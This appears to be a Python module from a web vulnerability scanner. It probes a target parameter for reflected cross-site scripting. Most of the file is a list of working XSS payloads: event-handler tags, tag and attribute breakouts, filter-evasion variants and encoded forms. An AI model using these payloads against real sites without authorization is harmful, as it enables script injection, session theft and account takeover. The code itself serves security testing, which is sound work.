"""Reflected cross-site scripting: a value comes back as something that a browser runs."""

import secrets

from .markup import runs
from .target import Probe

_SVG = "<svg onload={call}>"
# The first two are sent whatever comes back; all others only where the parameter is reflected in a page.
_FIRST = (_SVG, "\"'--></title></textarea></style></script></noscript></template>" + _SVG)
_RAW = (
    "textarea",
    "title",
    "style",
    "script",
    "noscript",
    "template",
    "xmp",
    "iframe",
    "noembed",
    "noframes",
    "select",
)
_REST = (
    "<script>{call}</script>",
    "<img src=x onerror={call}>",
    "<ScRiPt>{call}</sCrIpT>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<svg/onload={call}>",
    "<details/open/ontoggle={call}>",
    '">' + _SVG,
    "'>" + _SVG,
    ">" + _SVG,
    '" onmouseover={call} x="',
    "' onmouseover={call} x='",
    "x onmouseover={call} x=",
    '"onfocus="{call}',
    "'onfocus='{call}",
    '"/onmouseover={call}/x="',
    *(f"</{tag}>{_SVG}" for tag in _RAW),
    "-->" + _SVG,
    "--!>" + _SVG,
    "*/{call}/*",
    "'-{call}-'",
    '"-{call}-"',
    "`-{call}-`",
    "${{{call}}}",
    "\\'-{call}//",
    '\\"-{call}//',
    ";{call}//",
    "{call}",
    "\n{call}//",
    "<svg onload={call} ",
    "<svg onload={name}``>",
    "javascript:{call}",
    " javascript:{call}",
    "javajavascript:script:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "//{name}.example/",
    "data:text/javascript,{call}",
    "&lt;svg onload={call}&gt;",
    "%3Csvg onload={call}%3E",
    "%22%3E%3Csvg onload={call}%3E",
    "&quot; onmouseover={call} x=&quot;",
)


async def find_xss(probe: Probe) -> str | None:
    """Give the value that a browser runs, or None. Raises TargetError."""
    for seed in dict.fromkeys(("", probe.point.value)):
        found = await _try(probe, seed, (*_FIRST, "{name}"))
        if found == "":
            found = await _try(probe, seed, _REST)
        if found:
            return found
    return None


async def _try(probe: Probe, seed: str, patterns: tuple[str, ...]) -> str | None:
    """Give the value that runs; "" where one was reflected in a page, None where none was."""
    names = [f"ff{secrets.token_hex(3)}" for _ in patterns]
    values = [seed + pattern.format(name=name, call=f"{name}()") for name, pattern in zip(names, patterns, strict=True)]
    pages = await probe.send_all(values)
    is_reflected = False
    for name, value, page in zip(names, values, pages, strict=True):
        if page.is_markup and name in page.text.lower():
            is_reflected = True
            if runs(page.text, name):
                return value
    return "" if is_reflected else None
